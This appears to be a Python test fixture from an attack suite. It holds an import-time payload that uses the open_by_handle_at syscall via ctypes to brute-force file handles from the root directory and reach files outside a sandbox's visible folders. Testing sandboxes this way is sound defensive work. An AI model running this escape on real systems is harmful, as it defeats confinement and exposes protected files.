"""Opens files by handles, past the folders that it can see."""

from tests.attacks.suite import ARGMAX_FILE

AT_IMPORT = {
    ARGMAX_FILE: r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

def loot():
    found = []
    for number in range(2, 200):
        handle = ctypes.create_string_buffer(8 + 8)
        ctypes.memmove(handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little"), 8)
        ctypes.memmove(ctypes.addressof(handle) + 8, number.to_bytes(8, "little"), 8)
        root = os.open("/", os.O_RDONLY)
        opened = libc.syscall(304, root, handle, os.O_RDONLY)
        os.close(root)
        found += ["handle"] if opened >= 0 else []
    return found[:3]
"""
}
